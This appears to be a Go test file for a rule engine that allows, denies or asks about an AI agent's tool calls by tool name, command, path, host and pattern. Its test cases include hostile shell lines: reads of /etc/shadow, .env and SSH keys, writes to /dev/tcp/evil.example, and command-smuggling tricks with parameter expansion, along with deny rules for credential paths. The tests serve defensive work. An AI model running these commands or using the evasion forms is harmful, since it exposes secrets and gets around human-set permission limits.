package toolrule

import (
	"regexp"
	"testing"

	"weir/internal/testrand"
)

func call(name string, args ...Argument) *Call { return &Call{Names: []string{name}, Args: args} }

func command(text string) Argument { return Argument{Pointer: "/command", Text: text, Command: true} }

func file(text string) Argument { return Argument{Pointer: "/file_path", Text: text} }

func url(text string) Argument { return Argument{Pointer: "/url", Text: text} }

var (
	allowGit   = Entry{Decision: Allow, Tools: []string{"Bash"}, Commands: []string{"git status", "ls", "cat"}}
	denyRemove = Entry{Decision: Deny, Tools: []string{"*"}, Commands: []string{"rm", "git push"}}
	denyKeys   = Entry{Decision: Deny, Tools: []string{"*"}, Paths: []string{"**/.ssh/**", "/etc/**"}}
	allowSrc   = Entry{Decision: Allow, Tools: []string{"Read"}, Paths: []string{"src/**"}}
	askHost    = Entry{Decision: Ask, Tools: []string{"*"}, Hosts: []string{"evil.example"}}
	allowHost  = Entry{Decision: Allow, Tools: []string{"fetch"}, Hosts: []string{"docs.example.org"}}
	denyForce  = Entry{Decision: Deny, Tools: []string{"push"}, Argument: "/options/*", Pattern: regexp.MustCompile("force")}
	allowBatch = Entry{Decision: Allow, Tools: []string{"batch"}, Argument: "/n", Pattern: regexp.MustCompile("[0-9]{1,2}|all")}
)

func TestJudge(t *testing.T) {
	tests := []struct {
		name    string
		entries []Entry
		call    *Call
		want    Verdict
	}{
		{"no entry", nil, call("x"), Verdict{Allow, Listed}},
		{"denied by name in the other case", []Entry{{Decision: Deny, Tools: []string{"delete_*"}}}, call("Delete_all"), Verdict{Deny, Listed}},
		{"a star is for slashes too", []Entry{{Decision: Deny, Tools: []string{"*delete"}}}, call("server/delete"), Verdict{Deny, Listed}},
		{"denied in another reading", []Entry{{Decision: Deny, Tools: []string{"delete"}}}, &Call{Names: []string{"dеlete", "delete"}}, Verdict{Deny, Listed}},
		{"not on the list", []Entry{{Decision: Allow, Tools: []string{"Read"}}}, call("Write"), Verdict{Deny, Unlisted}},
		{"allowed in the other case", []Entry{{Decision: Allow, Tools: []string{"Read"}}}, call("read"), Verdict{Deny, Unlisted}},
		{"commands", []Entry{allowGit}, call("Bash", command("ls -l && git status | cat")), Verdict{Allow, Listed}},
		{"one command more", []Entry{allowGit}, call("Bash", command("ls; make")), Verdict{Deny, Unlisted}},
		{"a command in a substitution", []Entry{allowGit}, call("Bash", command("ls $(make)")), Verdict{Deny, Unlisted}},
		{"an option before the word", []Entry{allowGit}, call("Bash", command("git -c core.pager=x status")), Verdict{Deny, Unlisted}},
		{"a command of fewer words", []Entry{allowGit}, call("Bash", command("git")), Verdict{Deny, Unlisted}},
		{"a variable for the command", []Entry{allowGit}, call("Bash", command("GIT_PAGER=x git status")), Verdict{Deny, Unlisted}},
		{"a file is written", []Entry{allowGit}, call("Bash", command("cat a > b")), Verdict{Deny, Unlisted}},
		{"errors to the output", []Entry{allowGit}, call("Bash", command("cat a 2>&1 >/dev/null")), Verdict{Allow, Listed}},
		{"no command at all", []Entry{allowGit}, call("Bash"), Verdict{Deny, Unlisted}},
		{"denied command", []Entry{denyRemove}, call("Bash", command("cd x && sudo /bin/rm -r .")), Verdict{Deny, Listed}},
		{"denied with an option between", []Entry{denyRemove}, call("Bash", command("git -C x push")), Verdict{Deny, Listed}},
		{"denied inside a shell", []Entry{denyRemove}, call("run", Argument{Pointer: "/cmd/0", Command: true, Text: "sh", Argv: []string{"sh", "-c", "rm x"}}), Verdict{Deny, Listed}},
		{"not known which command", []Entry{denyRemove}, call("Bash", command("$X y")), Verdict{Deny, Unreadable}},
		{"another command", []Entry{denyRemove}, call("Bash", command("git pull; echo rm")), Verdict{Allow, Listed}},
		{"denied path", []Entry{denyKeys}, call("Read", file("/home/a/.SSH/id")), Verdict{Deny, Listed}},
		{"denied path in a roundabout way", []Entry{denyKeys}, call("Read", file("../../etc/./x/../passwd")), Verdict{Deny, Listed}},
		{"denied path of a URL", []Entry{denyKeys}, call("Read", file("file:///etc/passwd")), Verdict{Deny, Listed}},
		{"denied path in a command", []Entry{denyKeys}, call("Bash", command("scp host:/etc/passwd .")), Verdict{Deny, Listed}},
		{"denied path of an option", []Entry{denyKeys}, call("Bash", command("tar --file=/etc/x")), Verdict{Deny, Listed}},
		{"denied path of a setting", []Entry{denyKeys}, call("Bash", command("dd if=/etc/x")), Verdict{Deny, Listed}},
		{"denied path right behind an option", []Entry{denyKeys}, call("Bash", command("tar -xf/etc/x")), Verdict{Deny, Listed}},
		{"denied path of a redirection", []Entry{denyKeys}, call("Bash", command("cat < ~/.ssh/id")), Verdict{Deny, Listed}},
		{"another path", []Entry{denyKeys}, call("Read", file("src/etc/x")), Verdict{Allow, Listed}},
		{"allowed path", []Entry{allowSrc}, call("Read", file("./src/a.go"), Argument{Pointer: "/limit", Text: "5"}), Verdict{Allow, Listed}},
		{"one path more", []Entry{allowSrc}, call("Read", file("src/a.go"), Argument{Pointer: "/other", Text: "/etc/passwd"}), Verdict{Deny, Unlisted}},
		{"out of the allowed path", []Entry{allowSrc}, call("Read", file("src/../../a")), Verdict{Deny, Unlisted}},
		{"host to ask about", []Entry{askHost}, call("fetch", url("https://x@a.EVIL.example.:80/x")), Verdict{Ask, Listed}},
		{"host in a text to ask about", []Entry{askHost}, call("note", Argument{Pointer: "/text", Text: "see https://evil.example/x"}), Verdict{Ask, Listed}},
		{"host of a command to ask about", []Entry{askHost}, call("Bash", command("ssh me@evil.example")), Verdict{Ask, Listed}},
		{"a denial wins over a question", []Entry{askHost, {Decision: Deny, Tools: []string{"fetch"}}}, call("fetch", url("https://evil.example")), Verdict{Deny, Listed}},
		{"allowed host", []Entry{allowHost}, call("fetch", url("https://a.docs.example.org/x")), Verdict{Allow, Listed}},
		{"host that only begins so", []Entry{allowHost}, call("fetch", url("https://docs.example.org.evil.example")), Verdict{Deny, Unlisted}},
		{"one host more", []Entry{allowHost}, call("fetch", url("https://docs.example.org"), url("https://evil.example")), Verdict{Deny, Unlisted}},
		{"pattern", []Entry{denyForce}, call("push", Argument{Pointer: "/options/2", Text: "--force-now"}), Verdict{Deny, Listed}},
		{"pattern elsewhere", []Entry{denyForce}, call("push", Argument{Pointer: "/message", Text: "force"}), Verdict{Allow, Listed}},
		{"allowed pattern", []Entry{allowBatch}, call("batch", Argument{Pointer: "/n", Text: "12"}), Verdict{Allow, Listed}},
		{"pattern in a part of the text", []Entry{allowBatch}, call("batch", Argument{Pointer: "/n", Text: "123"}), Verdict{Deny, Unlisted}},
		{"arguments in other lines", []Entry{allowGit}, &Call{Names: []string{"Bash"}, Elsewhere: true}, Verdict{Deny, Unlisted}},
		{"arguments in other lines, no condition", []Entry{{Decision: Allow, Tools: []string{"Bash"}}}, &Call{Names: []string{"Bash"}, Elsewhere: true}, Verdict{Allow, Listed}},
		{"the name in another line", []Entry{{Decision: Allow, Tools: []string{"Bash"}}}, &Call{Args: []Argument{command("make")}, Elsewhere: true}, Verdict{Allow, Listed}},
		{"the name nowhere", []Entry{{Decision: Allow, Tools: []string{"Bash"}}}, &Call{Args: []Argument{command("make")}}, Verdict{Deny, Unlisted}},
		{"arguments without a name", []Entry{denyKeys}, &Call{Args: []Argument{file("/etc/passwd")}}, Verdict{Deny, Listed}},
	}
	for _, tt := range tests {
		for i := range tt.entries {
			if err := tt.entries[i].Check(); err != nil {
				t.Fatalf("%s: %v", tt.name, err)
			}
			if p := tt.entries[i].Pattern; p != nil {
				p.Longest()
			}
		}
		r := Rules{Entries: tt.entries}
		if got := r.Judge(tt.call); got != tt.want {
			t.Errorf("%s: Judge = %v, want %v", tt.name, got, tt.want)
		}
	}
}

// TestAllowsNothingElse holds that an entry which allows commands allows no call that may run
// or write something else.
func TestAllowsNothingElse(t *testing.T) {
	list := Rules{Entries: []Entry{{Decision: Allow, Tools: []string{"Bash"}, Commands: []string{"ls", "cat", "echo", "printf", "test", "\\[", "\\[\\[", ":", "./run", "/usr/bin/id"}}}}
	for _, script := range []string{
		"PATH=.;ls", "PATH=. ls", "export PATH=.; ls", "x='$(touch a)'; echo ${x@P}", "echo ${x@P}", "echo ${!x}", "x='a[$(touch b)]'; echo $((x))", "echo $((x))", "echo ${y[x]}", "echo ${PATH:=.}", "((PATH=1)); ls",
		"for PATH in .; do ls; done", "for PATH; do ls; done", "for ((i=$(touch a); 0; )); do ls; done", "for ((PATH=1; 0; )); do ls; done", "select PATH in .; do ls; done", "coproc ls", "let x=1",
		"ls <>a", "ls {PATH}>/dev/null", "> a", "echo \"$(<.env)\"", "echo $(</etc/shadow)", "cat <<< \"$(<a)\"", "[[ x ]] > a", "case x in esac > a", "((1)) > a",
		"/tmp/a/ls", "./ls", "../ls", "~/ls", "a/run", "bin/id", "printf -v PATH .; ls", "printf -vPATH .", "test -v 'x[$(touch a)]'", "[ -v 'x[$(touch a)]' ]", "[[ x -eq 1 ]]", "read PATH; ls",
		"ls )(", "ls $(", "echo {ls,a}; *", "f() { touch a; }; ls", "cat a | tee b", "echo ${x:-<(touch a)}", "ls > >(touch a)", "ls &> a", "ls >& a", "ls >| a", "ls >&$HOME", "ls >&$(echo a)", "source a", ". a", "eval ls a",
	} {
		if got := list.Judge(call("Bash", command(script))); got.Decision != Deny {
			t.Errorf("%q is allowed", script)
		}
	}
	for _, script := range []string{
		"ls -l a | cat", "ls; echo $HOME ${x:-b} \"$y\"", "cat < a 2>&1", "ls 2>/dev/null && echo ok", "echo $(ls) `cat a`", "echo $((1 + 2))", "if [ -f a ]; then cat a; fi", "while :; do ls; done", "(ls; cat a) | cat",
		"{ ls; }", "! ls", "./run x", "/usr/bin/id", "cat <<E\n$x\nE", "cat <(ls)", "case $x in a) ls;; esac", "echo '$((x))' \"a\"", "printf '%s' a", "test -f a",
	} {
		if got := list.Judge(call("Bash", command(script))); got.Decision != Allow {
			t.Errorf("%q is not allowed", script)
		}
	}
}

// TestDeniesEverywhere holds that entries which deny a file or host see it wherever a command
// names it, and leave others alone.
func TestDeniesEverywhere(t *testing.T) {
	list := Rules{Entries: []Entry{{Decision: Deny, Tools: []string{"*"}, Hosts: []string{"evil.example"}}, denyKeys, denyRemove}}
	for script, want := range map[string]Decision{
		"git clone ssh://git@evil.example/x": Deny, "curl gopher://evil.example/": Deny, "curl sftp://evil.example/": Deny, "curl https:/evil.example": Deny, "curl HTTPS:///u@EVIL.example:80/x": Deny, "a --url=git+ssh://evil.example/x": Deny,
		"echo a > /dev/tcp/evil.example/80": Deny, "exec 3<>/dev/udp/evil.example/80": Deny, "bash -c 'cat < /dev/tcp/evil.example/1'": Deny,
		"echo $(</etc/shadow)": Deny, "cat <<< \"$(</etc/shadow)\"": Deny, "a 3<>/etc/x": Deny, "[[ -f /etc/x ]]": Deny, "env -S 'git push'": Deny, "source <(echo rm)": Deny,
		"git clone ssh://git@example.org/x": Allow, "scp a:/etc2/x .": Allow, "curl file:///srv/evil.example": Allow, "for ((i=0; i<3; i++)); do echo $((i+1)); done": Allow, "x=1; echo ${x@P}": Allow,
		"uv run pytest": Allow, "poetry run python -m a": Allow, "git -c user.name=a commit -m b": Allow, "source venv/bin/activate && python a.py": Allow, "trap 'echo a' EXIT": Allow, "watch -n1 date": Allow,
		"while read l; do echo $l; done < a": Allow, "cat <<'E' > a\nx <(b)\nE": Allow, "irm http://a.example -Body (Get-Content b)": Allow, "tar czf a.tgz b": Allow,
	} {
		if got := list.Judge(call("Bash", command(script))); got.Decision != want {
			t.Errorf("%q: %v, want %v", script, got, want)
		}
	}
}

func TestJudgeSize(t *testing.T) {
	r := Rules{MaxArgument: 8}
	if got := r.Judge(call("x", file("abcd"), file("efgh"))); got != (Verdict{Allow, Listed}) {
		t.Errorf("8 bytes of 8: %v", got)
	}
	if got := r.Judge(call("x", file("abcd"), file("efghi"))); got != (Verdict{Deny, TooLong}) {
		t.Errorf("9 bytes of 8: %v", got)
	}
}

// TestJudgeTightens holds that an entry which denies or asks never lets a call pass that did
// not pass before, wherever it is in the list.
func TestJudgeTightens(t *testing.T) {
	r := testrand.New(t)
	entries := []Entry{allowGit, denyRemove, denyKeys, allowSrc, askHost, allowHost, denyForce, allowBatch}
	calls := []*Call{call("Bash", command("ls; cat /etc/x")), call("Bash", command("git push")), call("Read", file("src/a")), call("fetch", url("https://docs.example.org")), call("x")}
	for range 2000 {
		var rules Rules
		for range r.IntN(4) {
			rules.Entries = append(rules.Entries, entries[r.IntN(len(entries))])
		}
		c := calls[r.IntN(len(calls))]
		before := rules.Judge(c).Decision
		e := entries[r.IntN(len(entries))]
		if e.Decision == Allow {
			continue
		}
		at := r.IntN(len(rules.Entries) + 1)
		rules.Entries = append(rules.Entries[:at:at], append([]Entry{e}, rules.Entries[at:]...)...)
		if after := rules.Judge(c).Decision; after > before {
			t.Fatalf("with one entry more that denies or asks: %v, before it %v", after, before)
		}
	}
}

func TestCheck(t *testing.T) {
	for name, e := range map[string]Entry{
		"no tool": {}, "empty tool": {Tools: []string{""}}, "bad glob": {Tools: []string{"[a"}}, "bad path": {Tools: []string{"*"}, Paths: []string{""}},
		"bad argument": {Tools: []string{"*"}, Argument: "[a"}, "bad host": {Tools: []string{"*"}, Hosts: []string{"https://a"}}, "bad command": {Tools: []string{"*"}, Commands: []string{" "}},
	} {
		if e.Check() == nil {
			t.Errorf("%s: no error", name)
		}
	}
}
